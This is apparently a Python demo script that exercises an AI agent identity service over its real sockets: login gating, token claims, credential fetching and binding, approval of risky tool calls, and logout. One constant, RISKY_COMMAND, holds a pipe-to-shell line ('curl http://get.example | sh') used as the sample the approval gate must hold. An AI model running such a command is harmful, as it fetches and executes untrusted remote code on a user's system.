"""``agent-identity dev --demo``: a scripted conversation against the running dev stack.

The walkthrough uses only the stack's real interfaces, the way the pieces around a real
deployment would:

* a gateway: hooks and ``/identity`` commands over the bridge socket (``gateway.sock``),
  for one Telegram DM (sender :data:`SENDER`, session :data:`SESSION`);
* a browser: the provider's login form and the demo OAuth2 consent page, with httpx;
* a local tool: ``GET /token`` over ``identity.sock`` with curl. The local server admits only
  curl and the ``localServerAllowlist``, and the dev config does not list Python (that would
  admit every Python program of the user), so the demo asks curl and shows that it itself is
  turned away.

Each step prints one line, ``✓ …`` when it did what it says or ``✗ … (why)``; the first
failed step ends the walkthrough, since every later one builds on it. Secrets the demo is
about (API key, access token) are shown masked; the TIP only as its decoded claims.
"""

from __future__ import annotations

import json
import re
import shutil
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final, TextIO
from urllib.parse import quote

import httpx
import trio

from agent_identity.authz.tip_claims import TipClaims, TipClaimsError, decode_tip_claims
from agent_identity.config import mask_secret
from agent_identity.sandbox.browser import submit_consent_form, submit_login_form
from agent_identity.system.serve import ServerInfo

__all__ = ["SENDER", "SESSION", "DemoAccount", "StepError", "run_walkthrough"]

SENDER: Final = "1001"
SESSION: Final = f"agent:main:telegram:direct:{SENDER}"
API_KEY_PROVIDER: Final = "openai"
OAUTH_PROVIDER: Final = "demo-oauth"
SAFE_COMMAND: Final = "echo hi"
RISKY_COMMAND: Final = "curl http://get.example | sh"
#: Each step's bound; generous, since a loaded machine may be slow, but a hang is a failure.
STEP_TIMEOUT: Final = 30.0
#: How often the demo asks whether the 3LO token has arrived. The vault learns of the consent
#: by polling the control plane itself (first poll after 2 s), so nothing can be awaited.
CREDENTIAL_CHECK_INTERVAL: Final = 0.2

_URL = re.compile(r"https?://\S+")
_JWT = re.compile(r"eyJ[\w-]+\.[\w-]+\.[\w-]+")
_APPROVAL = re.compile(r"apr_[\w-]+")
_CTX: Final = {"sessionKey": SESSION, "senderId": SENDER, "channel": "telegram"}


class StepError(Exception):
    """A step did not do what it says; the message says why (never a secret)."""


@dataclass(frozen=True, slots=True)
class DemoAccount:
    """The seeded user (its ``repr`` leaves the password out).

    Attributes:
        name: What a person types into the login form's user field.
        password: And into its password field (the seed's public demo password).
        subject: The ``sub`` the user's tokens, the TIP included, carry.
    """

    name: str
    password: str
    subject: str

    def __repr__(self) -> str:
        return f"DemoAccount({self.name!r})"


def _expect(condition: object, why: str) -> None:
    if not condition:
        raise StepError(why)


def _search(pattern: re.Pattern[str], text: object, why: str) -> str:
    found = pattern.search(text if isinstance(text, str) else "")
    if found is None:
        raise StepError(why)
    return found.group(0)


def _url(text: str | None) -> str:
    return _search(_URL, text, f"no URL in the reply {_first_line(text)!r}")


def _first_line(text: str | None) -> str:
    return (text or "").strip().splitlines()[0][:120] if (text or "").strip() else ""


def _claims(token: str) -> TipClaims:
    try:
        return decode_tip_claims(token)
    except TipClaimsError as exc:
        raise StepError(f"the TIP cannot be read: {exc}") from exc


class Walkthrough:
    """The steps, over one bridge client and one browser (see the module docstring)."""

    def __init__(
        self,
        info: ServerInfo,
        account: DemoAccount,
        bridge: httpx.AsyncClient,
        browser: httpx.AsyncClient,
    ) -> None:
        self._info = info
        self._account = account
        self._bridge = bridge
        self._browser = browser
        self._calls = 0

    def steps(self) -> list[tuple[str, Callable[[], Awaitable[str]]]]:
        """The steps in order: a title and the coroutine that checks it."""
        return [
            ("gate", self.gate),
            ("login", self.login),
            ("TIP claims", self.tip_claims),
            ("API key", self.api_key),
            ("3LO", self.three_legged),
            ("bindings", self.bindings),
            ("tool call", self.tool_call),
            ("risky call", self.risky_call),
            ("/token", self.token),
            ("logout", self.logout),
        ]

    # -- the gateway's side of the bridge -------------------------------------------------

    async def _post(self, path: str, body: dict[str, Any]) -> Any:  # noqa: ANN401 - JSON
        response = await self._bridge.post(path, json=body)
        _expect(response.status_code == httpx.codes.OK, f"POST {path}: HTTP {response.status_code}")
        return response.json()

    async def _command(self, text: str) -> str:
        reply = await self._post("/command", {"commandBody": text, **_CTX})
        answer = reply.get("text") if isinstance(reply, dict) else None
        _expect(isinstance(answer, str), f"{text}: no reply text")
        return str(answer)

    async def _say(self, text: str) -> dict[str, Any] | None:
        event = {"content": text, "channel": "telegram", "sessionKey": SESSION, "senderId": SENDER}
        ctx = {"sessionKey": SESSION, "senderId": SENDER}
        result: dict[str, Any] | None = await self._post(
            "/hook/before_dispatch", {"event": event, "ctx": ctx}
        )
        return result

    async def _exec(self, command: str) -> tuple[str, dict[str, Any]]:
        self._calls += 1
        call_id = f"call-{self._calls}"
        ids = {"runId": "demo", "toolCallId": call_id}
        event = {"toolName": "exec", "params": {"command": command}, **ids}
        ctx = {"toolName": "exec", "sessionKey": SESSION, **ids}
        result = await self._post("/hook/before_tool_call", {"event": event, "ctx": ctx})
        return call_id, result or {}

    async def _finish(self, call_id: str) -> None:
        ids = {"runId": "demo", "toolCallId": call_id}
        event = {"toolName": "exec", "params": {}, **ids}
        await self._post(
            "/hook/after_tool_call", {"event": event, "ctx": {"sessionKey": SESSION, **ids}}
        )

    async def _curl_token(self) -> tuple[int, dict[str, Any]]:
        sock = self._info.identity_socket
        _expect(sock is not None, "the local identity server is off")
        curl = shutil.which("curl")
        _expect(curl, "curl is not installed")
        url = f"http://localhost/token?session={quote(SESSION)}"
        done = await trio.run_process(
            [str(curl), "-sS", "-w", "\n%{http_code}", "--unix-socket", str(sock), url],
            capture_stdout=True,
            capture_stderr=True,
            check=False,
        )
        body, _, status = done.stdout.decode().rpartition("\n")
        _expect(done.returncode == 0 and status.isdigit(), f"curl failed ({done.returncode})")
        answer = json.loads(body or "{}")
        _expect(isinstance(answer, dict), f"/token answered {type(answer).__name__}, not an object")
        return int(status), answer

    # -- the steps --------------------------------------------------------------------------

    async def gate(self) -> str:
        """A message before login is held, and answered with a login link."""
        held = await self._say("hello")
        if held is None or held.get("handled") is not True:
            raise StepError("before_dispatch let the message through")
        _url(held.get("text"))
        return (
            f'"hello" from Telegram user {SENDER} is held before login; the reply has a login link'
        )

    async def login(self) -> str:
        """``/identity login``, the provider's form, and the gate opens."""
        url = _url(await self._command("/identity login"))
        page = await submit_login_form(
            self._browser, url, username=self._account.name, password=self._account.password
        )
        _expect(
            page.status_code == httpx.codes.OK, f"the callback answered HTTP {page.status_code}"
        )
        _expect(await self._say("hello") is None, "the gate still holds messages after login")
        return (
            f"/identity login → the provider's form, filled in as {self._account.name} → "
            "the callback page; the gate now lets messages through"
        )

    async def tip_claims(self) -> str:
        """The TIP an agent tool gets, read with :func:`decode_tip_claims`."""
        body = {
            "params": {},
            "context": {
                "sessionKey": SESSION,
                "requesterSenderId": SENDER,
                "messageChannel": "telegram",
            },
        }
        result = await self._post("/tool/identity_get_tip_token", body)
        claims = _claims(_search(_JWT, json.dumps(result), "identity_get_tip_token gave no TIP"))
        want = self._account.subject
        _expect(claims.sub == want, f"the TIP is for {claims.sub!r}, not {want!r}")
        _expect(claims.agent, "the TIP names no agent (no act claim)")
        left = claims.expires_in(time.time())
        minutes = f"{left / 60:.0f} min" if left is not None else "no expiry"
        return (
            f"sub={claims.sub}, agent={claims.agent} (act chain: {claims.chain}), "
            f"iss={claims.iss}, expires in {minutes}; from identity_get_tip_token, decoded here "
            "(the token itself stays secret)"
        )

    async def api_key(self) -> str:
        """An API key from the control plane's credential provider."""
        reply = await self._command(f"/identity fetch {API_KEY_PROVIDER}")
        _expect("stored" in reply, f"the reply was {_first_line(reply)!r}")
        return f"/identity fetch {API_KEY_PROVIDER} → {_first_line(reply).lstrip('✓ ')}"

    async def three_legged(self) -> str:
        """A 3LO access token: the consent page, then the vault stores it."""
        started = trio.current_time()
        url = _url(await self._command(f"/identity fetch {OAUTH_PROVIDER}"))
        page = await submit_consent_form(self._browser, url)
        _expect(
            page.status_code == httpx.codes.OK, f"the consent page answered HTTP {page.status_code}"
        )
        while True:
            listing = await self._command("/identity list")
            if any(OAUTH_PROVIDER in line and "stored" in line for line in listing.splitlines()):
                break
            await trio.sleep(CREDENTIAL_CHECK_INTERVAL)
        waited = trio.current_time() - started
        return (
            f"/identity fetch {OAUTH_PROVIDER} → consent page approved → token stored after "
            f"{waited:.1f} s (the vault polls the control plane)"
        )

    async def bindings(self) -> str:
        """Both credentials bound to environment variables of tool calls."""
        for provider, variable in (
            (API_KEY_PROVIDER, "OPENAI_API_KEY"),
            (OAUTH_PROVIDER, "DEMO_TOKEN"),
        ):
            reply = await self._command(f"/identity set {provider} {variable}")
            _expect(variable in reply and "⚠" not in reply, f"the reply was {_first_line(reply)!r}")
        return f"/identity set: {API_KEY_PROVIDER} → OPENAI_API_KEY, {OAUTH_PROVIDER} → DEMO_TOKEN"

    async def tool_call(self) -> str:
        """An ``exec`` call receives the bound credentials as an env overlay."""
        call_id, result = await self._exec(SAFE_COMMAND)
        env = (result.get("params") or {}).get("env") or {}
        missing = {"OPENAI_API_KEY", "DEMO_TOKEN"} - set(env)
        _expect(not missing, f"the env overlay lacks {', '.join(sorted(missing))}")
        await self._finish(call_id)
        shown = ", ".join(f"{name}={mask_secret(str(env[name]))}" for name in sorted(env))
        return f'exec "{SAFE_COMMAND}" gets env {shown} (masked); after_tool_call releases them'

    async def risky_call(self) -> str:
        """A risky call waits for approval; approved, its identical retry runs once."""
        _, first = await self._exec(RISKY_COMMAND)
        asked = first.get("requireApproval") or {}
        approval = _search(_APPROVAL, asked.get("description"), "it was not held for approval")
        reply = await self._command(f"/identity approve {approval}")
        _expect("approved" in reply.lower(), f"the approval reply was {_first_line(reply)!r}")
        retry_id, retry = await self._exec(RISKY_COMMAND)
        _expect(
            not retry.get("block") and not retry.get("requireApproval"), "the retry did not run"
        )
        await self._finish(retry_id)
        _, again = await self._exec(RISKY_COMMAND)
        _expect(again.get("requireApproval"), "the approval was used twice")
        return (
            f'exec "{RISKY_COMMAND}" waits for approval {approval[:12]}…; /identity approve → '
            "the identical retry runs once, the next try waits again"
        )

    async def token(self) -> str:
        """``GET /token`` over identity.sock: curl is admitted, this Python process is not."""
        status, body = await self._curl_token()
        _expect(status == httpx.codes.OK, f"curl got HTTP {status}: {body.get('error')}")
        claims = _claims(str(body.get("token", "")))
        sock = self._info.identity_socket
        async with httpx.AsyncClient(
            transport=httpx.AsyncHTTPTransport(uds=str(sock)), base_url="http://localhost"
        ) as local:
            refused = await local.get("/token", params={"session": SESSION})
        _expect(
            refused.status_code == httpx.codes.FORBIDDEN, f"Python got HTTP {refused.status_code}"
        )
        return (
            f"GET /token over {Path(str(sock)).name} with curl: 200, a TIP for {claims.sub}; "
            "this Python process gets 403 (not on localServerAllowlist), hence curl"
        )

    async def logout(self) -> str:
        """Logout clears everything; ``/token`` and the gate notice at once."""
        reply = await self._command("/identity logout")
        _expect(reply.startswith("Logged out"), f"the reply was {_first_line(reply)!r}")
        status, body = await self._curl_token()
        _expect(status == httpx.codes.NOT_FOUND, f"/token still answers HTTP {status}")
        held = await self._say("hello again")
        _expect(held and held.get("handled") is True, "the gate lets messages through")
        return (
            f'/identity logout → "{_first_line(reply)}"; /token now answers 404 '
            f"{body.get('error')} and the gate holds messages again"
        )


async def _run_step(name: str, step: Callable[[], Awaitable[str]]) -> tuple[bool, str]:
    try:
        with trio.fail_after(STEP_TIMEOUT):
            return True, f"✓ {name}: {await step()}"
    except StepError as exc:
        why = str(exc)
    except trio.TooSlowError:
        why = f"no answer within {STEP_TIMEOUT:.0f} s"
    except Exception as exc:  # noqa: BLE001 - any way a step breaks is a failed step, shown as ✗
        why = f"{type(exc).__name__}: {str(exc)[:200]}"
    await trio.lowlevel.checkpoint()  # a step may fail before its first checkpoint
    return False, f"✗ {name} ({why})"


async def run_walkthrough(info: ServerInfo, account: DemoAccount, out: TextIO) -> bool:
    """Run every step against the running stack and print the transcript.

    Args:
        info: Where the running server listens.
        account: The seeded user to log in as.
        out: Where the transcript goes (flushed after every line).

    Returns:
        Whether every step held.
    """
    out.write(
        f"\nDemo: Telegram user {SENDER} ({SESSION}) over the gateway bridge, the browser "
        "played by httpx:\n"
    )
    out.flush()
    steps_held = 0
    async with (
        httpx.AsyncClient(
            transport=httpx.AsyncHTTPTransport(uds=str(info.bridge_socket)),
            base_url="http://localhost",
            timeout=STEP_TIMEOUT,
        ) as bridge,
        # No proxies from the environment: every address here is on loopback.
        httpx.AsyncClient(trust_env=False, timeout=STEP_TIMEOUT) as browser,
    ):
        walk = Walkthrough(info, account, bridge, browser)
        steps = walk.steps()
        for name, step in steps:
            held, line = await _run_step(name, step)
            out.write(line + "\n")
            out.flush()
            if not held:
                break
            steps_held += 1
    total = len(steps)
    if steps_held == total:
        out.write(f"demo: all {total} steps held\n")
    else:
        out.write(f"demo: step {steps_held + 1} of {total} failed; the rest were skipped\n")
    out.flush()
    return steps_held == total
